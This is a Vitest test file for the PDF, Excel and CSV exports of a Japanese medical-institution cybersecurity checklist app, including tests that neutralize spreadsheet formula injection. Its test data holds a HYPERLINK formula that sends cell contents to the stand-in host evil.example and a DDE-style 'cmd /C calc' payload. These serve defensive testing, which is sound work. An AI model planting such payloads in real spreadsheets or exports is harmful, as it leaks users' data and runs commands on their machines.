import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { afterAll, describe, expect, it } from 'vitest';
import { evaluate, safeCell, type FormKind } from '@mamori/domain';
import { loadCatalog } from '../src/checklist/catalog-loader.js';
import { renderFormCsv, renderFormPdf, renderFormXlsx, type ExportModel, type ExportRound } from '../src/exports/index.js';

const catalog = loadCatalog();
const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'mamori-exports-'));
afterAll(() => fs.rmSync(tmp, { recursive: true, force: true }));

const injected = '=HYPERLINK("http://evil.example/?leak="&A1,"詳細")';
const round = (n: number, value: 'yes' | 'no', date: string, targetDate: string | null = null, note = ''): ExportRound => ({
  round: n,
  value,
  date,
  targetDate,
  note,
});
const answers: ExportModel['answers'] = {
  gate: [round(1, 'yes', '2023-07-01')],
  '1(1)': [round(1, 'yes', '2023-07-01', null, injected)],
  '2(1)': [round(1, 'no', '2023-07-01', '2023-12-01'), round(2, 'no', '2023-12-01', '2024-03-01'), round(3, 'yes', '2024-02-15', null, '台帳を作成')],
  '2(4)@server': [round(2, 'yes', '2024-01-20'), round(1, 'no', '2023-07-01', '2024-02-01')],
};

/** The 2023 form as a hospital without a vendor contract would print it: 2(2) and 2(3) need no entry. */
function model(kind: FormKind, overrides: Partial<ExportModel> = {}): ExportModel {
  const form = catalog.form('2023', kind)!;
  const evaluation = evaluate(catalog, {
    edition: '2023',
    asOf: '2024-03-31',
    facility: { kind: 'hospital', hasVendorContract: false },
    institution: { answers },
    vendors: [],
    artifacts: { contactChart: false },
  });
  const requirements = kind === 'vendor' ? undefined : Object.fromEntries(evaluation.institution.items.map((i) => [i.id, i.requirement]));
  return {
    form,
    facilityName: 'みどり記念病院',
    vendorName: kind === 'vendor' ? '株式会社メディカルシステムズ' : null,
    fiscalYear: 2023,
    answers,
    ...(requirements ? { requirements } : {}),
    locale: 'ja',
    printedAt: '2024-05-13',
    ...overrides,
  };
}

function pdfText(pdf: Buffer, name: string): string {
  const file = path.join(tmp, `${name}.pdf`);
  fs.writeFileSync(file, pdf);
  return execFileSync('pdftotext', ['-layout', file, '-'], { encoding: 'utf8' });
}

const pageCount = (pdf: Buffer) => pdf.toString('latin1').match(/\/Type \/Page\b/g)?.length ?? 0;

describe('PDF export', () => {
  it('prints the 2023 institution form with its answers as searchable Japanese text', async () => {
    const pdf = await renderFormPdf(model('institution'));
    expect(pdf.subarray(0, 5).toString()).toBe('%PDF-');
    const text = pdfText(pdf, 'institution');
    for (const expected of [
      '医療機関におけるサイバーセキュリティ対策チェックリスト',
      '医療機関確認用',
      '医療機関名：みどり記念病院',
      '令和5年度',
      '医療情報システムを導入、運用している。',
      '医療情報システム安全管理責任者を設置している。',
      '1 体制構築',
      'サーバについて、以下を実施している。',
      '○ 令和5年度中',
      '○ 参考項目（令和6年度中）',
      '*2(2)及び2(3)については、事業者と契約していない場合には、記入不要です。',
      '記入不要',
      '令和5年7月1日',
      '令和6年2月1日',
      '令和6年1月20日',
      '3回目 はい 令和6年2月15日',
      '● 立入検査の際は、チェックリストに必要な事項が記入されているかを確認します。',
      '出力日：令和6年5月13日',
    ]) {
      expect(text).toContain(expected);
    }
    expect(text).toMatch(/はい\s/);
    expect(text).toMatch(/いいえ\s/);
    // Unanswered rounds keep the paper form's blanks, to be filled in by hand.
    expect(text).toContain('はい・いいえ');
    // Notes are footnotes, numbered in print order; a PDF cannot run formulas, so the note stays as written.
    expect(text).toContain(`※1 (1) 1回目: ${injected}`);
    expect(text).toContain('※2 (1) 3回目: 台帳を作成');
    expect(pageCount(pdf)).toBe(2);
    // Subset fonts: the 5 MB font file must not be embedded whole.
    expect(pdf.length).toBeLessThan(200_000);
  });

  it('prints 事業者名 and the vendor on a vendor form, which has no gate row', async () => {
    const text = pdfText(await renderFormPdf(model('vendor')), 'vendor');
    expect(text).toContain('事業者確認用');
    expect(text).toContain('事業者名：株式会社メディカルシステムズ');
    expect(text).toContain('(1) 事業者内に、医療情報システム等の提供に係る管理責任者');
    expect(text).not.toContain('医療情報システムを導入、運用している。');
  });

  it('titles a pharmacy form as the edition does, with 薬局名', async () => {
    const text = pdfText(await renderFormPdf({ ...model('institution'), form: catalog.form('2023', 'pharmacy')!, facilityName: 'ひかり薬局' }), 'pharmacy');
    expect(text).toContain('薬局におけるサイバーセキュリティ対策チェックリスト');
    expect(text).toContain('薬局確認用');
    expect(text).toContain('薬局名：ひかり薬局');
  });

  it('has no reference part when every item of the edition is required', async () => {
    const form = catalog.form('2024', 'institution')!;
    const text = pdfText(await renderFormPdf({ ...model('institution'), form, fiscalYear: 2024, requirements: {} }), 'fy2024');
    expect(text).toContain('令和6年度');
    expect(text).not.toContain('参考項目');
  });

  it('prints in English with the items’ English text', async () => {
    const text = pdfText(await renderFormPdf(model('institution', { locale: 'en' })), 'english');
    for (const expected of [
      'Cybersecurity Checklist for Medical Institutions',
      'FY2023',
      'Round 1',
      'Target date',
      'Yes',
      'No',
      '1 Jul 2023',
      'Not needed',
      '1 Organization',
    ]) {
      expect(text).toContain(expected);
    }
    expect(text).not.toContain('医療機関確認用');
  });

  it('renders one form in well under 300 ms once the font is loaded', async () => {
    const input = model('institution');
    await renderFormPdf(input);
    const times: number[] = [];
    for (let i = 0; i < 7; i++) {
      const start = performance.now();
      await renderFormPdf(input);
      times.push(performance.now() - start);
    }
    const median = times.sort((a, b) => a - b)[3]!;
    console.log(`renderFormPdf: median ${median.toFixed(0)} ms over 7 renders (min ${times[0]!.toFixed(0)}, max ${times[6]!.toFixed(0)})`);
    // Loose on purpose: CI machines are slow and shared. The figure above is what to watch.
    expect(median).toBeLessThan(1500);
  });
});

describe('Excel export', () => {
  async function readBack(input: ExportModel) {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await renderFormXlsx(input)) as unknown as ArrayBuffer);
    expect(workbook.worksheets).toHaveLength(1);
    const sheet = workbook.worksheets[0]!;
    const rows: string[][] = [];
    sheet.eachRow((row, n) => (rows[n] = (row.values as unknown[]).slice(1).map((v) => (v == null ? '' : String(v)))));
    const rowOf = (column: number, start: string) => rows.findIndex((r) => r?.[column]?.startsWith(start));
    return { sheet, rows, rowOf };
  }

  it('lays the form out on one sheet, values as text, set to print on A4 portrait', async () => {
    const { sheet, rows, rowOf } = await readBack(model('institution', { facilityName: '=1+1 病院' }));
    expect(sheet.name).toBe('医療機関確認用');
    expect(sheet.pageSetup).toMatchObject({ paperSize: 9, orientation: 'portrait', fitToPage: true, fitToWidth: 1, fitToHeight: 0 });
    expect(sheet.getCell('A1').value).toBe('医療機関におけるサイバーセキュリティ対策チェックリスト');
    expect(sheet.getCell('A1').isMerged).toBe(true);
    expect(sheet.getCell('B2').value).toBe("医療機関名：'=1+1 病院");

    const gate = rowOf(1, '医療情報システムを導入、運用している。');
    expect(rows[gate]!.slice(0, 3)).toEqual(['医療情報システムの有無', expect.stringContaining('医療情報システムを導入'), 'はい\n令和5年7月1日']);

    const manager = rowOf(1, '(1) 医療情報システム安全管理責任者を設置している。');
    expect(rows[manager]![0]).toBe('1 体制構築');
    expect(rows[manager]![2]).toBe('はい\n令和5年7月1日');
    expect(rows[manager]![4]).toBe('はい・いいえ\n（　 /　 ）');
    expect(rows[manager]![6]).toBe(`1回目: '${injected}`);

    const access = rowOf(1, '(4) 利用者の職種');
    expect(rows[access]!.slice(2, 5)).toEqual(['いいえ\n令和5年7月1日', '令和6年2月1日', 'はい\n令和6年1月20日']);
    expect(rows[rowOf(1, '(1) サーバ、端末PC')]![5]).toBe('3回目 はい 令和6年2月15日');
    expect(rows[rowOf(1, '(2) リモートメンテナンス')]![2]).toBe('記入不要');
    expect(rowOf(0, '○ 参考項目（令和6年度中）')).toBeGreaterThan(access);

    // Nothing becomes a formula, whatever the user typed.
    sheet.eachRow((row) => row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)));
  });
});

describe('CSV export', () => {
  const csv = renderFormCsv(model('institution', { locale: 'en' }));
  const lines = csv.replace(/^\uFEFF/, '').split('\r\n');

  it('in Japanese: Japanese headings, はい / いいえ, dates Excel reads (issue 13)', () => {
    const ja = renderFormCsv(model('institution'))
      .replace(/^\uFEFF/, '')
      .split('\r\n');
    expect(ja[0]).toBe('項目ID,番号,対象,チェック項目,回,回答,確認日,目標日,備考');
    expect(ja).toContain('2(4)@server,(4),サーバ,利用者の職種・担当業務別の情報区分毎のアクセス利用権限を設定している。,1,いいえ,2023/07/01,2024/02/01,');
    expect(ja[1]).toBe('gate,医療情報システムの有無,医療情報システム全般,医療情報システムを導入、運用している。,1,はい,2023/07/01,,');
  });

  it('starts with a BOM and a header, one CRLF line per item and round', () => {
    expect(csv.startsWith('\uFEFFid,label,scope,text,round,value,date,targetDate,note\r\n')).toBe(true);
    const fields = (line: string) => [line.split(',').slice(0, 3), line.split(',').slice(-5)];
    expect(fields(lines[1]!)).toEqual([
      ['gate', '医療情報システムの有無', 'general'],
      ['1', 'yes', '2023-07-01', '', ''],
    ]);
    expect(lines.filter((l) => l.startsWith('2(4)@server,')).map(fields)).toEqual([
      [
        ['2(4)@server', '(4)', 'server'],
        ['1', 'no', '2023-07-01', '2024-02-01', ''],
      ],
      [
        ['2(4)@server', '(4)', 'server'],
        ['2', 'yes', '2024-01-20', '', ''],
      ],
    ]);
    // Unanswered items still get a line, so the file lists the whole form.
    expect(lines.find((l) => l.startsWith('2(6)@server,'))).toMatch(/,,,,,$/);
    const items = catalog.form('2023', 'institution')!.items.length;
    expect(lines.filter(Boolean)).toHaveLength(1 + items + 1 + 2); // header; 2(4)@server has 2 rounds, 2(1) has 3
  });

  it('quotes per RFC 4180 and neutralizes formula-like cells', () => {
    expect(lines.find((l) => l.startsWith('1(1),'))).toMatch(/,1,yes,2023-07-01,,"'=HYPERLINK\(""http:\/\/evil\.example\/\?leak=""&A1,""詳細""\)"$/);
    const risky = renderFormCsv(
      model('institution', { locale: 'en', answers: { '1(1)': [round(1, 'no', '2023-07-01', '2024-01-01', '+cmd|" /C calc"!A0\nline 2')] } }),
    );
    expect(risky).toContain(`"'+cmd|"" /C calc""!A0\nline 2"`);
  });

  it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx', '＝1+1'])('safeCell(%j) gets a leading apostrophe', (value) => {
    expect(safeCell(value)).toBe(`'${value}`);
  });

  it.each(['(1) text', 'はい', '2023-07-01', 'a=b', ''])('safeCell(%j) leaves ordinary text alone', (value) => {
    expect(safeCell(value)).toBe(value);
  });
});
